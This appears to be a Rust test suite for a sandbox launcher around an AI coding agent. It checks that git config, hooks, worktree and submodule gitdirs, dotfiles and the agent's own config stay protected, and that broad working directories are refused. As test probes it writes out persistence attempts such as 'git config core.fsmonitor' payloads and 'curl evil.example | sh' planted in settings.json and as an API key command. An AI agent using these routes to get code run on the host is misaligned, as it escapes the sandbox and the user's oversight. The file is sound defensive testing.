//! What runs on the host without the user deciding to run it, tried from inside the
//! sandbox as a non-root UID: git's config and hooks (also through a `core.hooksPath`
//! directory, a linked worktree's `.git` file and a submodule's gitdir), `~/dotfiles`,
//! the code parts of pi's config, and protected paths that did not exist (reported at
//! exit); while git, pi's own data and `--writable-config` keep working. And the
//! working directories the launcher refuses.

use std::path::Path;
use std::process::Command;

use crate::support::{Launcher, chown_to_user, field, run, stdout};

/// The test's git identity and the settings the host-side set-up needs (the
/// repositories belong to [`USER`], the tests run as root).
const GIT_CONFIG: &[&str] = &[
    "-c",
    "safe.directory=*",
    "-c",
    "user.name=test",
    "-c",
    "user.email=test@example.com",
    "-c",
    "init.defaultBranch=main",
    "-c",
    "protocol.file.allow=always",
];

/// The same identity for git inside the sandbox (the test image has no global config).
const SANDBOX_GIT: &str = "g() { git -c user.name=agent -c user.email=agent@example.com \"$@\"; }";

/// Runs host git with [`GIT_CONFIG`] in `dir` and returns its output.
fn git(dir: &Path, args: &[&str]) -> String {
    let output = Command::new("git")
        .args(GIT_CONFIG)
        .arg("-C")
        .arg(dir)
        .args(args)
        .output()
        .unwrap();
    assert!(
        output.status.success(),
        "git {args:?} in {}: {}",
        dir.display(),
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8_lossy(&output.stdout).trim().to_owned()
}

/// A repository in `dir` with one commit of a file `f`.
fn repository(dir: &Path) {
    git(dir, &["init", "-q"]);
    std::fs::write(dir.join("f"), "a\n").unwrap();
    git(dir, &["add", "f"]);
    git(dir, &["commit", "-qm", "init"]);
}

/// Writes an executable script.
fn script(path: &Path, text: &str) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
    std::fs::set_permissions(path, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
}

/// `label: refused` when `command` fails, `label: done` when it succeeds (shell).
fn attempt(label: &str, command: &str) -> String {
    format!("({command}) >/dev/null 2>&1 && echo '{label}: done' || echo '{label}: refused'\n")
}

/// Checks the [`attempt`] lines of `text`: the `refused` ones failed, the `done` ones
/// worked.
fn assert_attempts(text: &str, refused: &[&str], done: &[&str]) {
    for (labels, outcome) in [(refused, "refused"), (done, "done")] {
        for label in labels {
            assert_eq!(field(text, &format!("{label}:")), outcome, "{label}");
        }
    }
}

#[test]
fn git_config_hooks_and_the_hooks_path_are_read_only_while_git_keeps_working() {
    let Some(launcher) = Launcher::start() else {
        return;
    };
    let launcher = launcher.owned_by_user();
    let work = &launcher.work;
    repository(work);
    // husky 9's layout: core.hooksPath names .husky/_, whose hooks run the scripts
    // beside it.
    git(work, &["config", "core.hooksPath", ".husky/_"]);
    script(
        &work.join(".husky/_/pre-commit"),
        "#!/bin/sh\nexec sh \"$(dirname \"$0\")/../pre-commit\"\n",
    );
    script(&work.join(".husky/pre-commit"), "echo 'husky hook ran'\n");
    chown_to_user(work);
    let config_before = std::fs::read_to_string(work.join(".git/config")).unwrap();
    let mut probe = format!("{SANDBOX_GIT}\n");
    probe.push_str(
        "echo \"fsmonitor-error: $(git config core.fsmonitor 'touch /tmp/pwned' 2>&1)\"\n",
    );
    for (label, command) in [
        ("fsmonitor", "git config core.fsmonitor 'touch /tmp/pwned'"),
        ("remote", "git remote add evil https://example.com/x.git"),
        ("hook", "echo 'touch /tmp/pwned' > .git/hooks/pre-commit"),
        ("husky", "echo 'touch /tmp/pwned' >> .husky/pre-commit"),
        (
            "husky-dir",
            "echo 'touch /tmp/pwned' > .husky/_/post-checkout",
        ),
        ("rename-git", "mv .git .git-old"),
        ("rename-husky", "mv .husky .husky-old"),
        ("commit", "echo b >> f && g add f && g commit -qm change"),
        ("branch", "g checkout -q -b feature"),
        ("stash", "echo c >> f && g stash -q && g stash pop -q"),
    ] {
        probe.push_str(&attempt(label, command));
    }
    probe.push_str("g commit -qam 'with the hook' 2>&1 | grep -o 'husky hook ran' | sed 's/^/hook-output: /'\n");
    let output = run(launcher.shell_as_user(&[] as &[&str], &["bash", "-c", &probe]));
    assert_eq!(output.status.code(), Some(0));
    let text = stdout(&output);
    assert_attempts(
        &text,
        &[
            "fsmonitor",
            "remote",
            "hook",
            "husky",
            "husky-dir",
            "rename-git",
            "rename-husky",
        ],
        &["commit", "branch", "stash"],
    );
    // git's own error, and the hooks still run.
    assert!(
        field(&text, "fsmonitor-error:").contains(".git/config"),
        "{text}"
    );
    assert_eq!(field(&text, "hook-output:"), "husky hook ran");
    // On the host: the config as it was, no new hook, the commits and the branch.
    assert_eq!(
        std::fs::read_to_string(work.join(".git/config")).unwrap(),
        config_before
    );
    assert!(!work.join(".git/hooks/pre-commit").exists());
    assert_eq!(
        std::fs::read_to_string(work.join(".husky/pre-commit")).unwrap(),
        "echo 'husky hook ran'\n"
    );
    assert_eq!(
        git(work, &["log", "--format=%s", "feature"]),
        "with the hook\nchange\ninit"
    );
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(!stderr.contains("WARNING"), "{stderr}");
}

#[test]
fn a_worktree_git_file_and_submodule_gitdirs_are_no_way_around() {
    let Some(launcher) = Launcher::start() else {
        return;
    };
    let launcher = launcher.owned_by_user();
    let scope = &launcher.scope;
    // The working directory is a linked worktree of a repository outside it.
    let main = scope.subdir("main");
    repository(&main);
    let work = &launcher.work;
    git(
        &main,
        &["worktree", "add", "-q", "-b", "wt", &work.to_string_lossy()],
    );
    chown_to_user(&main);
    chown_to_user(work);
    let main_git = main.join(".git");
    let mut probe = format!("{SANDBOX_GIT}\n");
    for (label, command) in [
        (
            "fsmonitor",
            "git config core.fsmonitor 'touch /tmp/pwned'".to_owned(),
        ),
        ("dotgit", "echo \"gitdir: $PWD/evil\" > .git".to_owned()),
        (
            "main-config",
            format!(
                "echo '[core] fsmonitor = x' >> {}/config",
                main_git.display()
            ),
        ),
        (
            "main-hook",
            format!("echo x > {}/hooks/pre-commit", main_git.display()),
        ),
        (
            "commondir",
            format!(
                "echo /tmp > {}/worktrees/work/commondir",
                main_git.display()
            ),
        ),
        (
            "rename-worktrees",
            format!("mv {0}/worktrees {0}/w2", main_git.display()),
        ),
        (
            "commit",
            "echo b >> f && g add f && g commit -qm wt-change".to_owned(),
        ),
        ("branch", "g checkout -q -b wt2".to_owned()),
    ] {
        probe.push_str(&attempt(label, &command));
    }
    let output = run(launcher.shell_as_user(&[] as &[&str], &["bash", "-c", &probe]));
    assert_eq!(output.status.code(), Some(0));
    let text = stdout(&output);
    assert_attempts(
        &text,
        &[
            "fsmonitor",
            "dotgit",
            "main-config",
            "main-hook",
            "commondir",
            "rename-worktrees",
        ],
        &["commit", "branch"],
    );
    assert_eq!(
        git(&main, &["log", "--format=%s", "wt2"]),
        "wt-change\ninit"
    );
    assert!(
        git(&main, &["config", "--list"])
            .lines()
            .all(|l| !l.contains("fsmonitor"))
    );

    // A superproject with a submodule: its gitdir is in .git/modules.
    let origin = scope.subdir("sub-origin");
    repository(&origin);
    let superproject = scope.subdir("super");
    repository(&superproject);
    git(
        &superproject,
        &[
            "submodule",
            "add",
            "-q",
            &origin.to_string_lossy(),
            "libs/sub",
        ],
    );
    git(&superproject, &["commit", "-qm", "add the submodule"]);
    chown_to_user(&superproject);
    let mut probe = format!("{SANDBOX_GIT}\n");
    for (label, command) in [
        (
            "module-config",
            "echo '[core] fsmonitor = x' >> .git/modules/libs/sub/config",
        ),
        (
            "module-hook",
            "echo x > .git/modules/libs/sub/hooks/pre-commit",
        ),
        ("module-dotgit", "echo 'gitdir: ../../evil' > libs/sub/.git"),
        (
            "module-rename",
            "mv .git/modules/libs/sub .git/modules/libs/moved",
        ),
        (
            "module-commit",
            "cd libs/sub && echo b >> f && g add f && g commit -qm sub-change",
        ),
    ] {
        probe.push_str(&attempt(label, command));
    }
    let mut command = launcher.shell_as_user(&[] as &[&str], &["bash", "-c", &probe]);
    command.current_dir(&superproject);
    let output = run(command);
    assert_eq!(output.status.code(), Some(0));
    let text = stdout(&output);
    assert_attempts(
        &text,
        &[
            "module-config",
            "module-hook",
            "module-dotgit",
            "module-rename",
        ],
        &["module-commit"],
    );
    assert_eq!(
        git(
            &superproject.join("libs/sub"),
            &["log", "-1", "--format=%s"]
        ),
        "sub-change"
    );
}

#[test]
fn dotfiles_and_agent_code_are_read_only_and_new_protected_files_are_reported() {
    let Some(launcher) = Launcher::start() else {
        return;
    };
    let launcher = launcher.owned_by_user();
    let home = &launcher.home;
    let dotfiles = home.join("dotfiles");
    std::fs::create_dir_all(&dotfiles).unwrap();
    std::fs::write(dotfiles.join("bashrc"), "# mine\n").unwrap();
    let agent = home.join(".pi/agent");
    std::fs::create_dir_all(agent.join("extensions")).unwrap();
    std::fs::write(agent.join("extensions/mine.js"), "// mine\n").unwrap();
    chown_to_user(home);
    let in_agent = "/home/piuser/.pi/agent";
    let mut probe = String::new();
    for (label, command) in [
        (
            "dotfiles",
            format!("echo evil >> {}/bashrc", dotfiles.display()),
        ),
        (
            "extensions",
            format!("echo evil > {in_agent}/extensions/evil.js"),
        ),
        (
            "npm-global",
            format!("echo evil > {in_agent}/npm-global/ls"),
        ),
        ("skills", format!("mkdir {in_agent}/skills/evil")),
        (
            "settings",
            format!("echo '{{}}' > {in_agent}/settings.json"),
        ),
        (
            "sessions",
            format!("mkdir -p {in_agent}/sessions && echo s > {in_agent}/sessions/s.jsonl"),
        ),
        ("mcp", format!("echo '{{}}' > {in_agent}/mcp.json")),
        (
            "vscode",
            "mkdir .vscode && echo '{}' > .vscode/tasks.json".to_owned(),
        ),
        // Refused by the proxy, for the summary that comes after the warning.
        (
            "denied",
            "curl -sf -m 10 -o /dev/null http://denied.example/".to_owned(),
        ),
    ] {
        probe.push_str(&attempt(label, &command));
    }
    probe.push_str("exit 3\n");
    let options = launcher.proxy_options("allowed.example\n", None);
    let output = run(launcher.shell_as_user(&options, &["bash", "-c", &probe]));
    // The agent's status, whatever the warning.
    assert_eq!(output.status.code(), Some(3));
    let text = stdout(&output);
    assert_attempts(
        &text,
        &["dotfiles", "extensions", "npm-global", "skills", "denied"],
        &["settings", "sessions", "mcp", "vscode"],
    );
    assert_eq!(
        std::fs::read_to_string(dotfiles.join("bashrc")).unwrap(),
        "# mine\n"
    );
    assert!(!agent.join("extensions/evil.js").exists());
    let stderr = String::from_utf8_lossy(&output.stderr);
    let warning = stderr
        .find("WARNING")
        .unwrap_or_else(|| panic!("no warning:\n{stderr}"));
    for created in [
        launcher.work.join(".vscode/tasks.json"),
        agent.join("mcp.json"),
    ] {
        let line = format!("created  {}", created.display());
        assert!(stderr.contains(&line), "{line} not reported:\n{stderr}");
    }
    assert!(
        !stderr.contains("settings.json") && !stderr.contains("sessions"),
        "{stderr}"
    );
    let summary = stderr
        .find("denied.example")
        .unwrap_or_else(|| panic!("no blocked summary:\n{stderr}"));
    assert!(
        warning < summary,
        "the warning comes after the summary:\n{stderr}"
    );

    // --writable-config: how a user installs an extension.
    let output = run(launcher.shell_as_user(
        &["--writable-config"],
        &[
            "sh",
            "-c",
            &format!("echo '// new' > {in_agent}/extensions/new.js"),
        ],
    ));
    assert_eq!(output.status.code(), Some(0));
    assert!(agent.join("extensions/new.js").exists());
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(
        stderr.matches("warning: --writable-config").count(),
        1,
        "{stderr}"
    );
}

#[test]
fn broad_working_directories_are_refused_unless_forced() {
    let Some(launcher) = Launcher::start() else {
        return;
    };
    let home = launcher.home.clone();
    let ancestor = launcher.scope.dir().to_owned();
    for (cwd, what) in [
        (home.as_path(), "your home directory"),
        (ancestor.as_path(), "an ancestor of your home directory"),
        (Path::new("/"), "the root directory"),
        (Path::new("/etc"), "a system directory"),
        (Path::new("/usr"), "a system directory"),
    ] {
        let mut command = launcher.shell(&[] as &[&str], &["true"]);
        command.current_dir(cwd);
        let output = run(command);
        assert_eq!(output.status.code(), Some(125), "{}", cwd.display());
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert!(
            stderr.contains(&format!("refusing to mount {} ({what})", cwd.display())),
            "{stderr}"
        );
    }
    let mut forced = launcher.shell(&["--force"], &["true"]);
    forced.current_dir(&home);
    assert_eq!(run(forced).status.code(), Some(0));
}

#[test]
fn command_settings_written_into_pi_config_are_reported_and_pi_own_writes_are_not() {
    let Some(launcher) = Launcher::start() else {
        return;
    };
    let launcher = launcher.owned_by_user();
    let agent = launcher.home.join(".pi/agent");
    std::fs::create_dir_all(&agent).unwrap();
    let settings = agent.join("settings.json");
    let auth = agent.join("auth.json");
    std::fs::write(
        &settings,
        r#"{"defaultModel": "a", "packages": ["npm:mine"]}"#,
    )
    .unwrap();
    std::fs::write(
        &auth,
        r#"{"anthropic": {"type": "api_key", "key": "sk-1"}}"#,
    )
    .unwrap();
    chown_to_user(&launcher.home);
    let in_agent = "/home/piuser/.pi/agent";

    // What pi writes as it runs: the last model, a refreshed token.
    let normal = format!(
        "echo '{{\"defaultModel\": \"b\", \"packages\": [\"npm:mine\"]}}' > {in_agent}/settings.json \
         && echo '{{\"anthropic\": {{\"type\": \"api_key\", \"key\": \"sk-2\"}}}}' > {in_agent}/auth.json"
    );
    let output = run(launcher.shell_as_user(&[] as &[&str], &["sh", "-c", &normal]));
    assert_eq!(output.status.code(), Some(0));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(!stderr.contains("WARNING"), "{stderr}");

    // A shell command prefix, an npm command and a `!command` key: run on the host by
    // the next `pi` started there.
    let attack = format!(
        "echo '{{\"defaultModel\": \"b\", \"packages\": [\"npm:mine\"], \
         \"shellCommandPrefix\": \"curl evil.example | sh;\", \"npmCommand\": [\"sh\", \"-c\", \"evil\"]}}' \
         > {in_agent}/settings.json \
         && echo '{{\"anthropic\": {{\"type\": \"api_key\", \"key\": \"!curl evil.example/k | sh\"}}}}' \
         > {in_agent}/auth.json; exit 4"
    );
    let output = run(launcher.shell_as_user(&[] as &[&str], &["sh", "-c", &attack]));
    // The agent's status, whatever the warning.
    assert_eq!(output.status.code(), Some(4));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        stderr.contains("WARNING: this run changed settings"),
        "{stderr}"
    );
    for line in [
        format!(
            "{} /shellCommandPrefix: now \"curl evil.example | sh;\"",
            settings.display()
        ),
        format!(
            "{} /npmCommand: now [\"sh\",\"-c\",\"evil\"]",
            settings.display()
        ),
        format!(
            "{} /anthropic/key: now \"!curl evil.example/k | sh\"",
            auth.display()
        ),
        "(pi runs this command through a shell for an API key)".to_owned(),
    ] {
        assert!(stderr.contains(&line), "{line} not reported:\n{stderr}");
    }
    assert!(!stderr.contains("/defaultModel"), "{stderr}");

    // A file left unreadable is said to be so.
    let broken = format!("echo '{{' > {in_agent}/auth.json");
    let output = run(launcher.shell_as_user(&[] as &[&str], &["sh", "-c", &broken]));
    let stderr = String::from_utf8_lossy(&output.stderr);
    let line = format!(
        "{}: cannot be checked any more: not valid JSON",
        auth.display()
    );
    assert!(stderr.contains(&line), "{line} not reported:\n{stderr}");
}
